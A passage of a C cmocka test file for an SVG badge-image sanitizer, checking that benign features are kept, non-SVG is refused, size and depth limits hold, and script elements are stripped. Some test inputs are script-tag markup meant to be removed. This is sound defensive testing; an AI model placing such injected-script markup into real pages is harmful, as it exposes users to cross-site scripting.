          SVG("<a href='#part2' target='_self'><text id='part2'>Part 2</text></a>"),
          { "<a href=\"#part2\" target=\"_self\">" } },
        { "filters, clips, masks, markers",
          SVG("<filter id='f'><feGaussianBlur stdDeviation='2'/></filter><clipPath id='c'><rect width='5'/></clipPath><mask id='m'><rect width='5' fill='#fff'/></mask><marker id='k'><path d='M0 0'/></marker><g filter='url(#f)' clip-path='url(#c)' mask='url(&quot;#m&quot;)'><path d='M0 0L5 5' marker-end='url(#k)'/></g>"),
          { "filter=\"url(#f)\" clip-path=\"url(#c)\" mask=\"url(&quot;#m&quot;)\"",
            "marker-end=\"url(#k)\"", "<feGaussianBlur stdDeviation=\"2\"/>" } },
        { "text",
          SVG("<text x='5' y='15' font-family='DejaVu Sans' font-size='12'>Well done: 100% &#x2713;</text>"),
          { "font-family=\"DejaVu Sans\"", "Well done: 100% \xe2\x9c\x93</text>" } },
    };
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        size_t removed = 99;

        if (sanitize(cases[i].svg, &out, &removed, &err) < 0)
            fail_msg("%s: refused: %s", cases[i].name, err.msg);
        if (removed != 0)
            fail_msg("%s: %zu removed:\n%s", cases[i].name, removed, out.ptr);
        for (size_t k = 0; k < 6 && cases[i].keep[k]; k++) {
            if (!strstr(out.ptr, cases[i].keep[k]))
                fail_msg("%s: '%s' is gone:\n%s", cases[i].name, cases[i].keep[k], out.ptr);
        }
        assert_null(strstr(out.ptr, "<!--"));
        assert_clean(cases[i].name, &out);
        assert_stable(cases[i].name, &out);
    }
    buf_release(&out);
}

static void links_trimmed(void **state)
{
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;
    size_t removed = 99;

    /* a URL parser skips the whitespace; image_check() wants the '#' first */
    assert_int_equal(sanitize(SVG("<use href=' #a'/><image xlink:href='&#10; " PNG_1X1 "'/>"), &out,
                              &removed, &err),
                     0);
    assert_int_equal(removed, 0);
    assert_non_null(strstr(out.ptr, "<use href=\"#a\"/>"));
    assert_non_null(strstr(out.ptr, "xlink:href=\"" PNG_1X1 "\""));
    assert_clean("trimmed", &out);
    /* removed may be NULL */
    assert_int_equal(sanitize(SVG("<script/>"), &out, NULL, &err), 0);
    assert_null(strstr(out.ptr, "script"));
    buf_release(&out);
}

static void not_svg(void **state)
{
    static const char *const cases[] = {
        "",
        "not xml at all",
        "<svg xmlns='http://www.w3.org/2000/svg'><g></svg>",
        "<svg xmlns='http://www.w3.org/2000/svg'>",
        "\x89PNG\r\n\x1a\n",
        "<svg/>",
        "<svg xmlns='http://www.w3.org/2000/svg/'/>",
        "<html xmlns='http://www.w3.org/1999/xhtml'><svg xmlns='http://www.w3.org/2000/svg'/></html>",
        "<x:svg xmlns:x='http://www.w3.org/1999/xhtml'/>",
        "<g xmlns='http://www.w3.org/2000/svg'/>",
    };
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;

    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        if (sanitize(cases[i], &out, NULL, &err) != -1 || err.code != ERR_INVALID)
            fail_msg("'%s': not refused (%d)", cases[i], (int)err.code);
        assert_int_equal(out.len, 0);
    }
    buf_release(&out);
}

/* An image of exactly `len` bytes that serializes to itself. */
static char *image_of(size_t len, char fill)
{
    static const char head[] = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                               "<svg xmlns=\"http://www.w3.org/2000/svg\"><desc>";
    static const char tail[] = "</desc></svg>\n";
    char *s = xmalloc(len + 1);

    memcpy(s, head, strlen(head));
    memset(s + strlen(head), fill, len - strlen(head) - strlen(tail));
    memcpy(s + len - strlen(tail), tail, strlen(tail));
    s[len] = '\0';
    return s;
}

static void limits(void **state)
{
    struct buf out = BUF_INIT(2 * LIMIT_BADGE_IMAGE_BYTES);
    struct buf small = BUF_INIT(64);
    struct err err = ERR_INIT;
    size_t removed = 99;
    char *s = image_of(LIMIT_BADGE_IMAGE_BYTES, 'a');

    assert_int_equal(sanitize(s, &out, &removed, &err), 0);
    assert_int_equal(removed, 0);
    assert_int_equal(out.len, LIMIT_BADGE_IMAGE_BYTES);
    assert_memory_equal(out.ptr, s, out.len);
    assert_clean("at the limit", &out);
    free(s);

    s = image_of(LIMIT_BADGE_IMAGE_BYTES + 1, 'a');
    assert_int_equal(sanitize(s, &out, &removed, &err), -1);
    assert_int_equal(err.code, ERR_TOOBIG);
    assert_int_equal(out.len, 0);
    free(s);

    /* '>' becomes "&gt;": the output would be over the limit, and no valid badge image */
    s = image_of(LIMIT_BADGE_IMAGE_BYTES / 2, '>');
    assert_int_equal(sanitize(s, &out, &removed, &err), -1);
    assert_int_equal(err.code, ERR_TOOBIG);
    assert_int_equal(out.len, 0);
    free(s);

    /* the caller's cap */
    assert_int_equal(sanitize(SVG(KEEP KEEP KEEP), &small, &removed, &err), -1);
    assert_int_equal(err.code, ERR_TOOBIG);
    assert_int_equal(small.len, 0);
    buf_release(&small);
    buf_release(&out);
}

/* `levels` nested elements, the root counting as one. */
static char *nested(int levels)
{
    struct buf b = BUF_INIT(1 << 20);

    buf_addstr(&b, "<svg xmlns='http://www.w3.org/2000/svg'>");
    for (int i = 1; i < levels; i++)
        buf_addstr(&b, "<g>");
    for (int i = 1; i < levels; i++)
        buf_addstr(&b, "</g>");
    buf_addstr(&b, "</svg>");
    return buf_detach(&b, NULL);
}

static void depth(void **state)
{
    struct buf out = BUF_INIT(LIMIT_BADGE_IMAGE_BYTES);
    struct err err = ERR_INIT;
    char *s = nested(64);

    assert_int_equal(sanitize(s, &out, NULL, &err), 0);
    assert_clean("64 levels", &out);
    free(s);
    s = nested(65);
    assert_int_equal(sanitize(s, &out, NULL, &err), -1);
    assert_int_equal(err.code, ERR_INVALID);
    free(s);
    /* what is dropped is not walked: a deep tree inside <script> goes with it */
    {
        struct buf b = BUF_INIT(1 << 20);

        buf_addstr(&b, SVG_OPEN "<script>");
        for (int i = 0; i < 100; i++)
            buf_addstr(&b, "<g>");
        for (int i = 0; i < 100; i++)
            buf_addstr(&b, "</g>");
        buf_addstr(&b, "</script></svg>");
        assert_int_equal(sanitize(b.ptr, &out, NULL, &err), 0);
        assert_clean("deep script", &out);
        buf_release(&b);
    }
    buf_release(&out);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(xss_payloads),
        cmocka_unit_test(bare_doctype_dropped),
        cmocka_unit_test(refused_payloads),
        cmocka_unit_test(benign_images_intact),
        cmocka_unit_test(links_trimmed),
        cmocka_unit_test(not_svg),
        cmocka_unit_test(limits),
        cmocka_unit_test(depth),
        cmocka_unit_test(check_is_the_sanitizer),
        cmocka_unit_test(badge_image_ways),
    };

    return cmocka_run_group_tests(tests, NULL, NULL);
}
